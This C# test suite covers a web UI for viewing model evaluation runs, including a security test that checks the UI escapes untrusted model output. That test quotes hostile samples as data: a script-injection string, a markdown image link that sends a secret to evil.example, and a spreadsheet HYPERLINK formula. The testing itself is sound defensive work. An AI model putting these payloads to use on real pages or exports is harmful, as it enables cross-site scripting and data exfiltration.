using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text.RegularExpressions;
using Hone.Data.Teach;
using Hone.Store;
using Hone.Testing;
using Xunit.Abstractions;

namespace Hone.Ui.Tests;

/// <summary>HTTP-level tests of <c>hone ui</c> (no browser): escaping of untrusted text, paging and filters in the URL, exports, access rules.</summary>
public sealed partial class UiHttpTests(ITestOutputHelper output)
{
    private static async Task<(UiServer Server, HttpClient Http)> Start(Workspace ws, UiOptions? options = null)
    {
        var server = await UiServer.StartAsync(ws, options ?? new UiOptions { Port = 0 });
        return (server, new HttpClient { BaseAddress = server.BaseAddress });
    }

    [GeneratedRegex("<tr class=\"case\"[^>]*data-case=\"([^\"]*)\"")]
    private static partial Regex CaseRow();

    [GeneratedRegex("data-verdict=\"([a-z]+)\"")]
    private static partial Regex VerdictAttr();

    [Fact]
    public async Task Model_outputs_ids_tags_and_reasoning_are_shown_as_text_never_run_or_fetched()
    {
        var ws = Workspace.Init(TestAssets.NewTempDir());
        string Id(int i) => i == 0 ? "<b>bold-id</b>" : "c" + i;
        var a = SyntheticRuns.AddEvalRun(ws, "hostile", SyntheticRuns.Hostile.Length, i =>
            SyntheticRuns.Sample(Id(i), SyntheticRuns.Hostile[i], pass: i % 2 == 0, tag: "<i>tag</i>", input: SyntheticRuns.Hostile[^(i + 1)], detail: SyntheticRuns.Hostile[i]));
        var b = SyntheticRuns.AddEvalRun(ws, "hostile", SyntheticRuns.Hostile.Length, i =>
            SyntheticRuns.Sample(Id(i), SyntheticRuns.Hostile[^(i + 1)], pass: i % 2 == 1, tag: "<i>tag</i>"));
        var (server, http) = await Start(ws);
        await using var _ = server;
        using var __ = http;
        foreach (var path in new[] { "/", $"/eval/{a}", $"/eval/{a}?show=fail", $"/compare?a={a}&b={b}", $"/teach/{a}", $"/eval/{a}?format=html", $"/compare?a={a}&b={b}&format=html", $"/runs/{a}" })
        {
            using var response = await http.GetAsync(path);
            var html = await response.Content.ReadAsStringAsync();
            Assert.True(response.IsSuccessStatusCode, path + ": " + html);
            Assert.DoesNotContain("<script>window", html, StringComparison.Ordinal);
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<svg onload", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<b>bold-id</b>", html, StringComparison.Ordinal);
            Assert.DoesNotContain("<i>tag</i>", html, StringComparison.Ordinal);
            // The only scripts are the app's own file; the only external-looking URL is text.
            Assert.All(Regex.Matches(html, "<script[^>]*>", RegexOptions.IgnoreCase), m => Assert.Equal("<script src=\"/assets/app.js\" defer>", m.Value));
            Assert.DoesNotContain("src=\"http", html, StringComparison.OrdinalIgnoreCase);
            if (path.StartsWith("/eval/", StringComparison.Ordinal) && !path.Contains("show", StringComparison.Ordinal))
            {
                Assert.Contains("&lt;script&gt;window.__pwned=1", html, StringComparison.Ordinal); // shown, as text
                Assert.Contains("![leak](http://evil.example/collect?q=SECRET)", html, StringComparison.Ordinal);
            }
            if (path.Contains("format=html", StringComparison.Ordinal))
                Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            else
                Assert.Contains("img-src 'self'", response.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        }
        // CSV: a cell a spreadsheet would run as a formula is defused.
        var csv = await http.GetStringAsync($"/eval/{a}?format=csv");
        Assert.Contains("'=HYPERLINK", csv, StringComparison.Ordinal);
        Assert.Equal(SyntheticRuns.Hostile.Length + 1, CsvRecords(csv));
    }

    [Fact]
    public async Task Eval_pages_filters_and_exports_follow_the_url()
    {
        var ws = Workspace.Init(TestAssets.NewTempDir());
        var id = SyntheticRuns.AddEvalRun(ws, "paging", 120, i => SyntheticRuns.Sample("c" + i.ToString("000", CultureInfo.InvariantCulture), "out " + i, pass: i % 3 == 0, tag: i % 2 == 0 ? "even" : "odd"));
        var (server, http) = await Start(ws);
        await using var _ = server;
        using var __ = http;

        var page2 = await http.GetStringAsync($"/eval/{id}?page=2");
        var ids = CaseRow().Matches(page2).Select(m => m.Groups[1].Value).ToList();
        Assert.Equal(Enumerable.Range(50, 50).Select(i => "c" + i.ToString("000", CultureInfo.InvariantCulture)), ids);
        Assert.Contains("page 2 of 3 (120 samples)", page2, StringComparison.Ordinal);
        Assert.Contains("?page=3", page2, StringComparison.Ordinal);

        var last = await http.GetStringAsync($"/eval/{id}?page=99"); // clamped to the last page
        Assert.Equal(20, CaseRow().Matches(last).Count);

        // failures on the even tag: i % 3 != 0 and i even → 40 cases, on one page of 100.
        var filtered = await http.GetStringAsync($"/eval/{id}?show=fail&tag=even&size=100");
        var verdicts = VerdictAttr().Matches(filtered).Select(m => m.Groups[1].Value).ToList();
        Assert.Equal(40, verdicts.Count);
        Assert.All(verdicts, v => Assert.Equal("fail", v));
        Assert.Contains("format=csv", filtered, StringComparison.Ordinal);
        Assert.Contains("show=fail&amp;tag=even&amp;size=100&amp;format=csv", filtered, StringComparison.Ordinal); // the export keeps the filter

        var csv = await http.GetStringAsync($"/eval/{id}?show=fail&tag=even&format=csv");
        Assert.Equal(41, CsvRecords(csv)); // header + every filtered row (all pages)
        var jsonl = await http.GetStringAsync($"/eval/{id}?q=out%2011&format=jsonl"); // search: "out 11", "out 110".."out 119"
        Assert.Equal(11, jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);

        var runsCsv = await http.GetStringAsync("/?kind=eval&format=csv");
        Assert.Contains(id, runsCsv, StringComparison.Ordinal);
        using var notFound = await http.GetAsync("/eval/no-such-run");
        Assert.Equal(HttpStatusCode.NotFound, notFound.StatusCode);
    }

    [Fact]
    public async Task Other_interfaces_need_an_api_key_and_the_key_is_enforced()
    {
        Assert.Equal(Hone.Core.ErrorKind.Input, Assert.Throws<Hone.Core.HoneException>(() => new UiOptions { Host = "0.0.0.0" }.Validate()).Kind);
        Assert.True(new UiOptions { Host = "0.0.0.0", ApiKey = "k" }.Validate() is { IsLoopback: false });
        Assert.True(new UiOptions().IsLoopback);
        var ws = Workspace.Init(TestAssets.NewTempDir());
        var (server, http) = await Start(ws, new UiOptions { Port = 0, ApiKey = "s3cret" });
        await using var _ = server;
        using var __ = http;
        using (var denied = await http.GetAsync("/")) Assert.Equal(HttpStatusCode.Unauthorized, denied.StatusCode);
        using (var wrong = await http.GetAsync("/login?key=nope")) Assert.Equal(HttpStatusCode.Unauthorized, wrong.StatusCode);
        using var request = new HttpRequestMessage(HttpMethod.Get, "/") { Headers = { Authorization = new AuthenticationHeaderValue("Bearer", "s3cret") } };
        using (var ok = await http.SendAsync(request)) Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
    }

    [Fact]
    public async Task Teach_saves_refuse_a_stale_form_and_write_nothing_outside_the_data_folder()
    {
        var ws = Workspace.Init(TestAssets.NewTempDir());
        var id = SyntheticRuns.AddEvalRun(ws, "teach", 2, i => SyntheticRuns.Sample("c" + i, "wrong", pass: false));
        var (server, http) = await Start(ws);
        await using var _ = server;
        using var __ = http;
        using var stale = await http.PostAsync($"/teach/{id}", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["csrf"] = "forged", ["case"] = "c0", ["corrected"] = "Once", ["action"] = "save",
        }));
        Assert.Equal(HttpStatusCode.Forbidden, stale.StatusCode);
        Assert.False(File.Exists(Path.Combine(ws.DataDir, TeachWriter.SftFile)));

        // The library call: two lines, one per file; an unchanged answer is refused.
        var c = new TeachCorrection([new System.Text.Json.Nodes.JsonObject { ["role"] = "user", ["content"] = "q" }], "wrong", "right\nanswer");
        TeachWriter.Append(ws.DataDir, c);
        TeachWriter.Append(ws.DataDir, c);
        var sft = File.ReadAllLines(Path.Combine(ws.DataDir, TeachWriter.SftFile));
        var dpo = File.ReadAllLines(Path.Combine(ws.DataDir, TeachWriter.DpoFile));
        Assert.Equal(2, sft.Length);
        Assert.Equal(2, dpo.Length);
        Assert.Equal("right\nanswer", System.Text.Json.JsonDocument.Parse(sft[0]).RootElement.GetProperty("messages")[1].GetProperty("content").GetString());
        var pair = System.Text.Json.JsonDocument.Parse(dpo[0]).RootElement;
        Assert.Equal("wrong", pair.GetProperty("non_preferred_output")[0].GetProperty("content").GetString());
        Assert.Throws<ArgumentException>(() => TeachWriter.Plan(ws.DataDir, c with { Corrected = "wrong" }));
    }

    [Fact]
    public async Task A_ten_thousand_case_run_pages_and_filters_with_its_load_times_reported()
    {
        var ws = Workspace.Init(TestAssets.NewTempDir());
        const int n = 10_000;
        var id = SyntheticRuns.AddEvalRun(ws, "big", n, i => SyntheticRuns.Sample("case-" + i, $"The answer to case {i} is {i * 7 % 13}.", pass: i % 4 != 0, tag: "t" + (i % 5)));
        var (server, http) = await Start(ws);
        await using var _ = server;
        using var __ = http;
        var lines = new List<string> { $"hone ui, {n:N0}-case eval run, {Environment.ProcessorCount} cores (ms; HTTP GET of the full page on loopback)" };
        async Task<string> Timed(string label, string path)
        {
            var sw = Stopwatch.StartNew();
            var body = await http.GetStringAsync(path);
            lines.Add($"{label,-40} {sw.Elapsed.TotalMilliseconds,8:0} ms  {body.Length / 1024.0,7:0} KiB");
            return body;
        }
        var first = await Timed("first page, cold (parses cases.jsonl)", $"/eval/{id}");
        Assert.Contains("page 1 of 200 (10,000 samples)", first, StringComparison.Ordinal);
        await Timed("first page, warm", $"/eval/{id}");
        var mid = await Timed("page 100", $"/eval/{id}?page=100");
        Assert.Equal("case-4950", CaseRow().Matches(mid)[0].Groups[1].Value);
        var fails = await Timed("failures on tag t0", $"/eval/{id}?show=fail&tag=t0");
        Assert.Contains("(500 samples)", fails, StringComparison.Ordinal); // i%4==0 and i%5==0: i%20==0
        await Timed("search \"case 99\"", $"/eval/{id}?q=case%2099");
        var csv = await Timed("CSV export (all rows)", $"/eval/{id}?format=csv");
        Assert.Equal(n + 1, CsvRecords(csv));
        var id2 = SyntheticRuns.AddEvalRun(ws, "big", n, i => SyntheticRuns.Sample("case-" + i, $"The answer to case {i} is {i * 5 % 13}.", pass: i % 3 != 0, tag: "t" + (i % 5)));
        await Timed("compare two 10,000-case runs, cold", $"/compare?a={id}&b={id2}");
        await Timed("compare, changed only, warm", $"/compare?a={id}&b={id2}&changed=1");
        await Timed("runs home", "/");
        foreach (var l in lines) output.WriteLine(l);
        File.WriteAllLines(Path.Combine(AppContext.BaseDirectory, "ui-load-times.txt"), lines);
    }

    [Fact]
    public async Task An_eval_in_progress_is_read_from_its_journal_and_the_version_moves_as_it_grows()
    {
        var ws = Workspace.Init(TestAssets.NewTempDir());
        string id;
        using (var store = ws.OpenStore()) id = store.CreateRun(Hone.Evals.Runs.EvalRunner.Kind, "live", "{}").Id; // running: this process owns it
        var journal = Path.Combine(ws.RunsDir, id, Hone.Evals.Runs.EvalRunner.JournalFile);
        Directory.CreateDirectory(Path.GetDirectoryName(journal)!);
        void Append(int from, int to) => File.AppendAllLines(journal, Enumerable.Range(from, to - from).Select(i => SyntheticRuns.Sample("c" + i, "o", pass: true).ToJsonLine()));
        Append(0, 3);
        var (server, http) = await Start(ws);
        await using var _ = server;
        using var __ = http;
        var v1 = await http.GetStringAsync("/api/version");
        var page = await http.GetStringAsync($"/eval/{id}");
        Assert.Equal(3, CaseRow().Matches(page).Count);
        Assert.Contains("data-live=\"1\"", page, StringComparison.Ordinal);
        await Task.Delay(20);
        Append(3, 5);
        File.SetLastWriteTimeUtc(journal, DateTime.UtcNow.AddSeconds(1));
        Assert.NotEqual(v1, await http.GetStringAsync("/api/version"));
        Assert.Equal(5, CaseRow().Matches(await http.GetStringAsync($"/eval/{id}")).Count);
    }

    [Fact]
    public void Curves_are_downsampled_on_the_server_keeping_ends_and_spikes()
    {
        var data = Enumerable.Range(0, 100_000).Select(i => ((double)i, i == 54_321 ? 50.0 : Math.Sin(i / 1000.0))).ToList();
        var down = Svg.Downsample(data);
        Assert.Equal(Svg.MaxPoints, down.Count);
        Assert.Equal(data[0], down[0]);
        Assert.Equal(data[^1], down[^1]);
        Assert.Contains(down, p => p.Y == 50.0); // a stride would most likely have dropped it
        Assert.Equal(10, Svg.Downsample(data.Take(10).ToList()).Count); // short curves are drawn whole
        var smooth = Svg.Smooth([(0, 0), (1, 10), (2, 10)], alpha: 0.5);
        Assert.Equal([0.0, 5.0, 7.5], smooth.Select(p => p.Y));
        var html = Svg.LineChart("Loss <b>", [new Series("train_loss", down, "s1", data.Count)]);
        Assert.Contains("data-points=\"600\" data-total=\"100000\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
    }

    private static int CsvRecords(string csv)
    {
        int records = 0;
        bool quoted = false;
        foreach (var ch in csv)
        {
            if (ch == '"') quoted = !quoted;
            else if (ch == '\n' && !quoted) records++;
        }
        return records;
    }
}
